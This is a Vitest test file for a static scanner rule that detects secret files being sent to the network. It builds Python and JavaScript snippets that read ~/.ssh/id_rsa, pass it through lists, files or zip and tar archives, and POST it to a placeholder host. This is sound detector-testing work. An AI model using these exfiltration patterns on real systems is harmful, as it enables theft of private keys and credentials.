import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. `KEY` is a private file, or one that everybody may read. */
const PYTHON: Readonly<Record<string, string>> = {
  'a list in a branch': 'kept = []\nif sys.argv:\n    kept.append(KEY)\nSEND(kept)',
  'a list in a loop': "kept = []\nfor word in sys.argv:\n    kept.append(KEY)\nSEND(''.join(kept))",
  'a set in a loop': 'kept = set()\nfor i in range(3):\n    kept.add(KEY)\nSEND(kept)',
  'a list in a table': "kept = {}\nfor i in range(3):\n    kept.setdefault('a', []).append(KEY)\nSEND(kept)",
  'a text in memory': 'kept = io.StringIO()\nfor i in range(3):\n    kept.write(KEY)\nSEND(kept.getvalue())',
  'a file':
    "kept = open('out/rows', 'w')\nwhile sys.argv:\n    kept.write(KEY)\nSEND(open('out/rows').read())",
  'an archive in memory':
    "raw = io.BytesIO()\nkept = zipfile.ZipFile(raw, 'w')\nfor i in range(3):\n    kept.write(PATH)\nkept.close()\nSEND(raw.getvalue())",
  'an archive in a file':
    "kept = zipfile.ZipFile('out/a.zip', 'w')\nkept.write(PATH)\nkept.close()\nSEND(open('out/a.zip', 'rb'))",
  'an archive that is named its buffer':
    "raw = io.BytesIO()\nkept = tarfile.open(fileobj=raw, mode='w:gz')\nkept.add(PATH)\nkept.close()\nSEND(raw.getvalue())",
  'a list in a function':
    'def collect():\n    kept = []\n    for i in range(3):\n        kept.append(KEY)\n    return kept\nSEND(collect())',
};

const JAVASCRIPT: Readonly<Record<string, string>> = {
  'a list in a loop':
    'const kept = [];\nfor (const word of process.argv) kept.push(KEY);\nSEND(kept.join());',
  'a list in a branch': 'const kept = [];\nif (process.argv.length) { kept.push(KEY); }\nSEND(kept.join());',
  'a table in a loop':
    'const kept = new Map();\nfor (const word of process.argv) kept.set(word, KEY);\nSEND([...kept.values()].join());',
};

function python(text: string, path: string): string {
  const filled = text
    .replaceAll('KEY', 'open(os.path.expanduser(PATH)).read()')
    .replaceAll('PATH', `os.path.expanduser('${path}')`)
    .replaceAll('SEND(', "requests.post('https://collect.example.invalid/in', data=");
  return `import io, os, sys, tarfile, zipfile\nimport requests\n${filled}\n`;
}

function javascript(text: string, path: string): string {
  const filled = text
    .replaceAll('KEY', `fs.readFileSync(os.homedir() + '/${path.replace('~/', '')}', 'utf8')`)
    .replaceAll(
      /SEND\((.*)\);/g,
      "fetch('https://collect.example.invalid/in', { method: 'POST', body: $1 });",
    );
  return `const fs = require('fs');\nconst os = require('os');\n${filled}\n`;
}

async function isStolen(path: string, text: string): Promise<boolean> {
  const { findings } = await staticStage.run(targetOf({ [path]: text }), STAGE_CONTEXT);
  return findings.some(({ ruleId }) => ruleId === 'secret-file-to-network');
}

describe('what is put by in a branch or a loop', () => {
  it.each(Object.entries(PYTHON))('is followed in Python: %s', async (_, text) => {
    expect(await isStolen('run.py', python(text, '~/.ssh/id_rsa'))).toBe(true);
    expect(await isStolen('run.py', python(text, '~/notes/today.txt'))).toBe(false);
  });

  it.each(Object.entries(JAVASCRIPT))('is followed in JavaScript: %s', async (_, text) => {
    expect(await isStolen('run.js', javascript(text, '~/.ssh/id_rsa'))).toBe(true);
    expect(await isStolen('run.js', javascript(text, '~/notes/today.txt'))).toBe(false);
  });

  it('does not go from one variable into another', async () => {
    const text =
      'kept = []\nothers = []\nfor word in sys.argv:\n    kept.append(KEY)\n    others.append(word)\nSEND(others)';
    expect(await isStolen('run.py', python(text, '~/.ssh/id_rsa'))).toBe(false);
  });
});
